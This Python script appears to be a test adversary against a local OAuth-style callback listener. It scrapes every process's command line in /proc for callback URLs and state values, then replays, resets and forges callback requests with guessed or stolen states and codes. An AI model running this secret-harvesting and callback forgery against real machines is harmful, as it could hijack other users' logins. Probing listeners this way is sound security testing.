#!/usr/bin/env python3
"""Another user of the machine, who wants somebody else's consent: reads every process's arguments, tries what is found there,
and forges answers. What came of it is printed as JSON. Arguments: the port at which the program waits."""
import glob, json, re, socket, struct, sys

port = int(sys.argv[1])


def ask(target, method="GET", more="", interface=None):
    with socket.socket() as link:
        link.settimeout(60)
        if interface:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface)
        link.connect(("127.0.0.1", port))
        link.sendall(f"{method} {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{more}\r\n".encode())
        answer = b""
        while piece := link.recv(65536):
            answer += piece
    return answer.decode()


def leaves(target, reset):
    """Asks, and is gone before the answer: closed, or reset, so that nobody can be asked whose it was."""
    link = socket.create_connection(("127.0.0.1", port), timeout=60)
    if reset:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    link.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
    link.close()


arguments = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        arguments += open(path, errors="replace").read().split("\0")
    except OSError:
        pass
found = sorted({it for it in arguments if re.match(rf"https?://127\.0\.0\.1:{port}/", it)})
paths = [it.split(str(port), 1)[1] for it in found]
guesses = [secret for path in paths for secret in [path.rsplit("/", 1)[-1]]] + ["", "guessed", "A" * 43]
forged = [f"/callback?{answer}&state={state}" for state in guesses
          for answer in ("error=access_denied", "code=stolen", "code=stolen&error=access_denied", "x=1")]
for path in paths:
    for nth in range(40):
        leaves(path, reset=nth % 2 == 0)
print(json.dumps({
    "found": found,
    "with_state": [it for it in arguments if "state=" in it and f"%3A{port}%2F" in it],
    # The kernel looks a socket up by the interface, too, that it's bound to.
    "launched": [ask(path, interface=interface).split("\r\n\r\n")[0] for path in paths for interface in (None, None, b"lo")],
    "posted": [ask(path, "POST", f"Origin: http://127.0.0.1:{port}\r\n").split(" ")[1] for path in paths],
    "forged": sorted({ask(target).split(" ")[1] for target in forged}),
}))
